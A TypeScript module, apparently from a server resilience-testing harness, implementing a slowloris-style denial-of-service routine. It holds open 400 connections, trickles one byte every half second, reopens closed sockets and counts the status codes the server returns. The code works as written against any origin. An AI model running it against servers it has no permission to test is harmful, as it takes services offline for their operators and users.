import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import type { Told } from './attacks.ts'

const CONNECTIONS = 400
const BYTE_EVERY = 500

/** Opens many connections, begins a request on each and goes on one byte at a time. */
export async function sendSlowly(
  { origin, signal }: { origin: string; signal: AbortSignal },
  beginning: string,
): Promise<Told> {
  const { hostname, port } = new URL(origin)
  const told: Told = new Map()
  const open = () => {
    const socket = connect(Number(port), hostname, () => socket.write(beginning))
    socket.once('data', (bytes) => {
      const status = Number(/^HTTP\/1.1 (\d+)/.exec(String(bytes))?.[1] ?? 0)
      told.set(status, (told.get(status) ?? 0) + 1)
    })
    socket.on('error', () => {})
    return socket
  }
  const sockets: Socket[] = Array.from({ length: CONNECTIONS }, open)
  while (!signal.aborted) {
    await pause(BYTE_EVERY)
    for (const [at, socket] of sockets.entries())
      if (socket.closed) sockets[at] = open()
      else if (beginning !== '' && socket.writable) socket.write('a')
  }
  for (const socket of sockets) socket.destroy()
  await Promise.all(sockets.filter((socket) => !socket.closed).map((socket) => once(socket, 'close')))
  return told
}
